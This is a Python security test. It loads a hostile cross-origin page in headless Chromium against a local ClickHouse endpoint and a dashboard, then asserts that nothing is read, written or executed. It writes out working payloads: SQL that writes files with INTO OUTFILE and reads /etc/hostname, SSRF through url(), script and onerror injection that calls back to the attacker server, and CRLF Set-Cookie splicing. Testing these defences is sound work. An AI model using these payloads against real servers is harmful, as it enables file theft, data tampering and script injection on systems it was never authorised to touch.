"""A hostile page on another origin, in a real headless Chromium, against the embedded stack's ClickHouse
endpoint and against the dashboard: `<img>`, auto-submitted `<form method=POST>` (text/plain, multipart,
urlencoded), `fetch()` with and without CORS, `<script src>` and `<iframe>` reads, CR/LF in header-bound
parameters, and query results that are HTML trying to run script on the listener's origin.

The page writes everything it managed to read into its DOM and calls back its own server from any
script that runs; the test asserts it read nothing, wrote no file and ran nothing on the listener's origin.
A control beacon and a canary frame on the attacker's own origin prove the page ran and that a script
in a frame would have been heard.
"""

from __future__ import annotations

import asyncio
import json
import os
import secrets
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, quote

import pytest

from fleetforge.adapters.http.server import BackgroundServer, Receive, Scope, Send
from fleetforge.adapters.views.dashboard.app import Dashboard, DashboardServer
from tests.browser import dump_dom, need_chromium
from tests.integration.test_observability_stack import Stack

pytestmark = pytest.mark.timeout(300)

REPORT_AFTER_MS = 6000  # the page writes its report then; Chromium dumps the DOM at its load event, after HOLD_S
HOLD_S = 9.0


@dataclass
class Attacker:
    """The attacker's origin: serves the page and records every request that reaches it."""

    pages: dict[str, bytes] = field(default_factory=dict)
    hits: list[tuple[str, dict[str, list[str]], str]] = field(default_factory=list)  # path, query, cookie
    lock: threading.Lock = field(default_factory=threading.Lock)
    base: str = ""

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "http":
            return
        query = parse_qs(scope["query_string"].decode("latin-1"))
        cookie = next((v.decode("latin-1") for k, v in scope["headers"] if k == b"cookie"), "")
        with self.lock:
            self.hits.append((scope["path"], query, cookie))
        if scope["path"] == "/hold":  # keeps the page from finishing loading before its report is written
            await asyncio.sleep(HOLD_S)
        page = self.pages.get(scope["path"])
        status, body = (200, page) if page is not None else (204, b"")
        await send({"type": "http.response.start", "status": status,
                    "headers": [(b"content-type", b"text/html; charset=utf-8"), (b"cache-control", b"no-store")]})
        await send({"type": "http.response.body", "body": body})

    def paths(self, path: str) -> list[tuple[dict[str, list[str]], str]]:
        with self.lock:
            return [(q, c) for p, q, c in self.hits if p == path]


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    app = Attacker()
    server = BackgroundServer(app, name="attacker").start()
    app.base = server.url.rstrip("/")
    app.pages["/canary.html"] = (
        f'<script>new Image().src = "{app.base}/canary?from=" + encodeURIComponent(location.origin)</script>'
    ).encode()
    yield app
    server.stop()


_PAGE = """<!doctype html>
<html><head><meta charset="utf-8"><title>attacking</title></head>
<body><pre id="report"></pre>
<script>
"use strict";
const C = %s;
const report = [];
const note = (s) => report.push(s);
const beacon = (path) => { new Image().src = C.attacker + path; };
beacon("/control?from=page");
const hold = new Image();
hold.src = C.attacker + "/hold";
document.body.appendChild(hold);

function frame(name, src) {
  const f = document.createElement("iframe");
  f.name = name;
  f.addEventListener("load", () => {
    try {
      const doc = f.contentDocument;
      if (doc && doc.URL === "about:blank") return;  // the empty frame a form is about to load into
      note("got:" + name + "=" + doc.body.innerText);
    }
    catch (e) { note("blocked:" + name + ":" + e.name); }
  });
  if (src) f.src = src;
  document.body.appendChild(f);
  return f;
}

function post(a) {
  frame(a.label, null);
  const form = document.createElement("form");
  form.method = "POST";
  form.action = a.url;
  form.enctype = a.enctype;
  form.target = a.label;
  for (const [k, v] of a.fields) {
    const input = document.createElement("input");
    input.type = "hidden"; input.name = k; input.value = v;
    form.appendChild(input);
  }
  document.body.appendChild(form);
  form.submit();
}

async function read(a) {
  try {
    const r = await fetch(a.url, { method: a.method, mode: a.mode, body: a.body, credentials: "include" });
    const text = await r.text();
    note((r.type === "opaque" ? "opaque:" : "got:") + a.label + "=" + text);
  } catch (e) { note("blocked:" + a.label + ":" + e.name); }
}

function script(a) {
  const s = document.createElement("script");
  s.src = a.url;
  s.onload = () => note("script-loaded:" + a.label + ":" + String(window.leaked));
  s.onerror = () => note("script-refused:" + a.label);
  document.body.appendChild(s);
}

const pending = [];
for (const a of C.attacks) {
  if (a.kind === "img") { const i = new Image(); i.src = a.url; document.body.appendChild(i); }
  if (a.kind === "frame") frame(a.label, a.url);
  if (a.kind === "form") post(a);
  if (a.kind === "fetch") pending.push(read(a));
  if (a.kind === "script") script(a);
}
frame("canary", C.attacker + "/canary.html");
setTimeout(async () => {
  await Promise.allSettled(pending);
  if (window.leaked !== undefined) note("got:script-global=" + String(window.leaked));
  note("cookie=" + document.cookie);
  document.getElementById("report").textContent = report.join("\\n");
  beacon("/report?cookie=" + encodeURIComponent(document.cookie));
  document.title = "done";
}, %d);
</script></body></html>
"""


def _callback_js(attacker: str) -> str:
    """Script text (no single quotes) that calls the attacker back with the origin it runs on."""
    return f'new Image().src="{attacker}/callback?from="+encodeURIComponent(location.origin)'


def _attack(attacker: Attacker, attacks: list[dict[str, Any]], profile: Path) -> list[str]:
    """Serve the attack page, open it in Chromium; the lines of its report."""
    name = f"/attack-{secrets.token_hex(4)}.html"
    config = json.dumps({"attacker": attacker.base, "attacks": attacks}).replace("</", "<\\/")
    attacker.pages[name] = (_PAGE % (config, REPORT_AFTER_MS)).encode()
    dom, _ = dump_dom(attacker.base + name, profile, budget_ms=int(HOLD_S * 1000) + 10_000, real_time=True)
    assert "<title>done</title>" in dom, dom[:2000]
    return dom.split('<pre id="report">', 1)[1].split("</pre>", 1)[0].splitlines()


def _leaks(attacker: Attacker, report: list[str], secret_texts: list[str]) -> list[str]:
    """What the attacker achieved (empty: nothing); asserts first that the page and its canary ran."""
    assert attacker.paths("/control"), "the attack page did not run"
    canary = attacker.paths("/canary")
    assert canary and canary[0][0]["from"] == [attacker.base], "a script in a frame would not have been heard"
    problems = [f"script ran on the listener's origin: {q}" for q, _ in attacker.paths("/callback")]
    problems += [f"the attacker page read a response: {line[:300]}" for line in report
                 if line.startswith("got:") and not line.startswith(("got:canary=", "got:script-global="))]
    problems += [f"a response ran as the attacker's script (a JSONP-style read; answer with "
                 f"X-Content-Type-Options: nosniff): {line}"
                 for line in report if line.startswith("got:script-global=")]
    shown = "\n".join(report) + json.dumps(attacker.hits)
    problems += ["a host file's content reached the attacker" for text in secret_texts if text in shown]
    cookies = [line for line in report if line.startswith("cookie=")] + [c for _, _, c in attacker.hits]
    problems += [f"an injected Set-Cookie took: {c}" for c in sorted(set(cookies)) if "pwn" in c]
    return problems


@pytest.fixture(scope="module")
def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
    need_chromium()
    root = tmp_path_factory.mktemp("xorigin")
    (root / "cwd").mkdir()
    here = Path.cwd()
    os.chdir(root / "cwd")  # the detached stack's working directory: where a relative OUTFILE would land
    try:
        started = Stack(root / "stack", "--no-sink")
    finally:
        os.chdir(here)
    yield started
    started.down()


def test_cross_origin_page_cannot_use_the_clickhouse_endpoint(
    stack: Stack, attacker: Attacker, tmp_path: Path
) -> None:
    ch = stack.url.rstrip("/")
    secret_file = tmp_path / "secret.txt"
    secret = secrets.token_hex(16)
    secret_file.write_text(secret + "\n")
    hostname = Path("/etc/hostname").read_text().strip() if Path("/etc/hostname").is_file() else ""
    victims = {kind: tmp_path / f"victim-{kind}.txt" for kind in
               ("img", "img-fn", "text", "multipart", "urlencoded", "fetch", "fetch-url", "script")}
    cb = _callback_js(attacker.base)

    def q(sql: str, **params: str) -> str:
        return ch + "/?" + "&".join(f"{k}={quote(v, safe='')}" for k, v in {"query": sql, **params}.items())

    def outfile(kind: str) -> str:
        return f"SELECT 'x' INTO OUTFILE '{victims[kind]}'"

    reads = {"hostname": "SELECT * FROM file('/etc/hostname', 'RawBLOB')",
             "secret": f"SELECT * FROM file('{secret_file}', 'RawBLOB')",
             "plain": "SELECT 'plain-result'"}
    splice = f"x\r\nSet-Cookie: pwn=1; Path=/\r\nContent-Type: text/html\r\n\r\n<script>{cb}</script>"
    attacks: list[dict[str, Any]] = [
        # writes through simple requests
        {"kind": "img", "url": q(outfile("img"))},
        {"kind": "img", "url": q(f"INSERT INTO FUNCTION file('{victims['img-fn']}', 'TSV', 'x String') VALUES ('x')")},
        {"kind": "img", "url": q(f"SELECT * FROM url('{attacker.base}/ssrf', 'RawBLOB')")},
        {"kind": "form", "label": "form-text", "url": ch + "/", "enctype": "text/plain",
         "fields": [[outfile("text") + " --", ""]]},
        {"kind": "form", "label": "form-multipart", "url": ch + "/", "enctype": "multipart/form-data",
         "fields": [["query", outfile("multipart")]]},
        {"kind": "form", "label": "form-urlencoded", "url": q(outfile("urlencoded")),
         "enctype": "application/x-www-form-urlencoded", "fields": [["a", "b"]]},
        {"kind": "fetch", "label": "fetch-no-cors-write", "url": ch + "/", "method": "POST", "mode": "no-cors",
         "body": outfile("fetch")},
        {"kind": "fetch", "label": "fetch-no-cors-url", "url": q(outfile("fetch-url")), "method": "GET",
         "mode": "no-cors"},
        {"kind": "img", "url": q("SELECT 'x' INTO OUTFILE 'victim-relative.txt'")},
        # reads
        *({"kind": "fetch", "label": f"fetch-cors-{name}", "url": q(sql, add_http_cors_header="1"),
           "method": "GET", "mode": "cors"} for name, sql in reads.items()),
        *({"kind": "fetch", "label": f"fetch-no-cors-{name}", "url": q(sql), "method": "GET", "mode": "no-cors"}
          for name, sql in reads.items()),
        *({"kind": "frame", "label": f"frame-{name}", "url": q(sql)} for name, sql in reads.items()),
        {"kind": "script", "label": "script-global", "url": q("SELECT 'window.leaked = 42'", default_format="TSVRaw")},
        {"kind": "script", "label": "script-outfile", "url": q(outfile("script"))},
        # script on the endpoint's origin
        {"kind": "frame", "label": "html-result", "url": q(f"SELECT '<script>{cb}</script>'", default_format="TSVRaw")},
        {"kind": "frame", "label": "html-img", "url": q(f"SELECT '<img src=x onerror={cb}>' FORMAT RawBLOB")},
        {"kind": "frame", "label": "xml-result",
         "url": q("SELECT 1 AS x FORMAT XML", default_format="XML")},
        {"kind": "form", "label": "html-post", "url": ch + "/?default_format=TSVRaw", "enctype": "text/plain",
         "fields": [[f"SELECT '<script>{cb}</script>' --", ""]]},
        {"kind": "frame", "label": "query-id-splice", "url": q("SELECT 1", query_id=splice)},
        {"kind": "frame", "label": "format-splice", "url": q("SELECT 1", default_format=splice)},
        {"kind": "frame", "label": "database-splice", "url": q("SELECT 1", database=splice)},
        {"kind": "frame", "label": "session-splice", "url": q("SELECT 1", session_id=splice)},
    ]
    report = _attack(attacker, attacks, tmp_path / "chrome")

    problems = [f"a cross-origin request wrote {p}" for p in victims.values() if p.exists()]
    problems += [f"a cross-origin request wrote {folder / 'victim-relative.txt'}"
                 for folder in (stack.dir, stack.dir / "clickhouse", stack.dir.parent / "cwd", Path.cwd())
                 if (folder / "victim-relative.txt").exists()]
    problems += ["the endpoint fetched a URL for a cross-origin page" for _ in attacker.paths("/ssrf")[:1]]
    problems += _leaks(attacker, report, [secret, "plain-result", *([hostname] if hostname else [])])
    log = (stack.dir / "observability.log").read_text(errors="replace")
    problems += [f"a traceback in observability.log: {log[-2000:]}" for _ in range(1) if "Traceback" in log]
    assert not problems, "\n".join(problems)


def test_cross_origin_page_cannot_use_the_dashboard(attacker: Attacker, tmp_path: Path) -> None:
    need_chromium()
    server = DashboardServer(Dashboard(None, None), port=0).start()
    try:
        d = server.url.rstrip("/")
        cb = _callback_js(attacker.base)
        html = quote(f"<script>{cb}</script>", safe="")
        attacks: list[dict[str, Any]] = [
            {"kind": "img", "url": d + "/api/meta"},
            {"kind": "form", "label": "form-post", "url": d + "/api/meta", "enctype": "text/plain",
             "fields": [["a", "b"]]},
            {"kind": "fetch", "label": "fetch-no-cors-post", "url": d + "/api/runs", "method": "POST",
             "mode": "no-cors", "body": "x"},
            *({"kind": "fetch", "label": f"fetch-cors{path}", "url": d + path, "method": "GET", "mode": "cors"}
              for path in ("/api/meta", "/api/runs", "/", "/static/app.js")),
            *({"kind": "frame", "label": f"frame{path}", "url": d + path} for path in ("/", "/api/meta")),
            {"kind": "script", "label": "script-json", "url": d + "/api/meta"},
            {"kind": "frame", "label": "html-panel", "url": d + "/api/panel/" + html},
            {"kind": "frame", "label": "html-runs", "url": d + "/api/runs?workspace=" + html},
            {"kind": "frame", "label": "html-run", "url": d + "/api/runs/" + html},
            {"kind": "frame", "label": "html-static", "url": d + "/static/" + html},
            {"kind": "frame", "label": "html-range", "url": d + "/api/panel/overview?from=" + html},
            {"kind": "frame", "label": "crlf", "url": d + "/api/runs?workspace=" +
             quote("x\r\nSet-Cookie: pwn=1; Path=/\r\n\r\n<script>" + cb + "</script>", safe="")},
        ]
        report = _attack(attacker, attacks, tmp_path / "chrome")
    finally:
        server.stop()
    problems = _leaks(attacker, report, ["budget_burndown"])
    assert not problems, "\n".join(problems)
